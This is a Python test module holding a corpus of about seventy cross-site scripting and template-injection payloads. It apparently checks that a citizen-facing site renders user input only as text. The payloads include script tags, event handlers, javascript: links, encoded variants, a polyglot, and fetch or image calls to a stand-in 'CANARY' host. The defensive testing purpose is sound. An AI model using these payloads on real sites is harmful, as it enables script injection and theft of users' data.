"""What attackers write where citizens write: markup, events, addresses, styles and template marks.

Each opens a dialog, or asks the canary for something, in a page that shows it as anything but text.
"""

from __future__ import annotations

_CORPUS = r"""
<script>alert(1)</script>
<script src=//CANARY/a.js></script>
<ScRiPt>alert(document.domain)</sCrIpT>
<script>fetch('//CANARY/f')</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=//CANARY/i.png>
<img srcset="//CANARY/s.png 1x">
<img/src=x/onerror=alert`1`>
"><img src=//CANARY/q.png onerror=alert(1)>
' onmouseover='alert(1)' autofocus onfocus='alert(1)
" autofocus onfocus="alert(1)
x" onfocus=alert(1) autofocus tabindex=1 x="
<svg onload=alert(1)>
<svg/onload=fetch('//CANARY/svg')>
<svg><script>alert(1)</script></svg>
<svg><image href="//CANARY/v.png"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="//CANARY/u.svg#x"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<body onload=alert(1)>
<iframe src=//CANARY/frame></iframe>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=//CANARY/o></object>
<embed src=//CANARY/e>
<link rel=stylesheet href=//CANARY/l.css>
<link rel=prefetch href=//CANARY/p>
<meta http-equiv=refresh content="0;url=//CANARY/m">
<base href=//CANARY/>
<style>@import '//CANARY/i.css';</style>
<style>*{background:url(//CANARY/b.png)}</style>
<div style="background:url(//CANARY/d.png)">x</div>
<table background=//CANARY/t.png>
<video poster=//CANARY/v.jpg src=//CANARY/v.mp4 autoplay>
<audio src=//CANARY/a.mp3 autoplay onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<form action=//CANARY/x><button autofocus onfocus=alert(1)>x
<isindex action=javascript:alert(1) type=image>
<a href="javascript:alert(1)">klik di sini</a>
[klik di sini](javascript:alert(1))
![gambar](http://CANARY/md.png)
javascript:alert(1)//
data:text/html,<script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;
\u003cscript\u003ealert(1)\u003c/script\u003e
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
{{constructor.constructor('alert(1)')()}}
{{ 7*7 }} {% raw %} {# x #} ${alert(1)} #{alert(1)} <%= 7*7 %>
${fetch('//CANARY/t')}`);alert(1);//
';alert(1);//
";alert(1);//
</script><img src=//CANARY/z onerror=alert(1)>
<template><script>alert(1)</script></template><img src=x onerror=alert(1)>
<xss id=x tabindex=1 onfocus=alert(1) style=display:block autofocus>
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */onerror=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=alert(1)//>
"""


def payloads(canary: str) -> list[str]:
    """The corpus, with `canary` ("127.0.0.1:4711") as the place that must never be asked for anything."""
    return [line.replace("CANARY", canary) for line in _CORPUS.strip().splitlines()]
